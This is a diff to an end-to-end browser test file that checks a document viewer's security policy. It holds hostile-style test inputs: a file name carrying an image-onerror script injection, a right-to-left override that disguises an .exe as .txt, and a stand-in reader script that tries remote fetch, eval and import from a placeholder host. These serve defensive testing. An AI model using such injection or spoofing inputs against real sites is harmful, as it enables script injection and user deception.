@@ -3,9 +3,18 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Page } from 'playwright';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { choose, drop, fixture, made, ONE_OR_TWO, passages, showing, showPanel } from './desk.ts';
-import { type Opened, open } from './open.ts';
-import { openSite } from './site.ts';
+import {
+  choose,
+  drop,
+  fixture,
+  made,
+  ONE_OR_TWO,
+  passages,
+  said,
+  showing,
+  showPanel,
+} from './opening-steps.ts';
+import { openSite, type Visit } from './site.ts';
 
 const site = openSite();
 const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
@@ -13,13 +22,12 @@ const MARKUP = `<img src=x onerror="window.ran='name'">.txt`;
 /** Shown from right to left from its middle on, it would end in ".txt". */
 const TURNED = 'rules\u202etxt.exe';
 const dialogs: string[] = [];
-let visit: Opened;
+let visit: Visit;
 let page: Page;
 
 beforeAll(async () => {
-  visit = await open(site.browser, site.address, { reducedMotion: 'reduce' });
+  visit = await site.open(site.address);
   page = visit.page;
-  page.setDefaultTimeout(10_000);
   page.on('dialog', (dialog) => {
     dialogs.push(dialog.message());
     dialog.dismiss();
@@ -113,4 +121,38 @@ test('an address that is markup is nothing but an address', async () => {
   });
   await page.getByRole('button', { name: 'Open documents' }).click();
   await nothingRan();
+});
+
+/** Stands in for a reader: tries what the policy should refuse to it, and says to the console what was refused. */
+const TRYING = `
+  const attempts = {
+    fetch: () => fetch('http://outside.invalid/'),
+    eval: () => (0, eval)('1'),
+    import: () => import('http://outside.invalid/a.js'),
+    WebAssembly: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
+    Worker: () => new Worker('http://outside.invalid/a.js'),
+  };
+  (async () => {
+    const refused = [];
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try { await attempt(); } catch { refused.push(name); }
+    }
+    console.log('refused: ' + refused);
+  })();`;
+
+test('a reader fetches nothing from elsewhere, evaluates nothing and imports only from beside the page', async () => {
+  const { page, complaints, requests } = await site.open(site.address);
+  // Chromium announces an import that it then refuses, and can do so after the reader's answer.
+  const failures: unknown[] = [];
+  page.on('requestfailed', (request) => failures.push(request.failure()?.errorText));
+  await page
+    .context()
+    .route('**/reader-pdf.js', (route) => route.fulfill({ contentType: 'text/javascript', body: TRYING }));
+  await choose(page, ONE_OR_TWO, [fixture('berths.pdf')]);
+  await expect.poll(() => complaints).toContain('log: refused: fetch,eval,import,WebAssembly,Worker');
+  await expect.poll(() => failures).toEqual(['csp']);
+  const elsewhere = requests.filter((url) => !url.startsWith('blob:') && !url.startsWith(site.address));
+  expect(elsewhere).toEqual(['http://outside.invalid/a.js']);
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await said(page, /^Stopped/);
 });
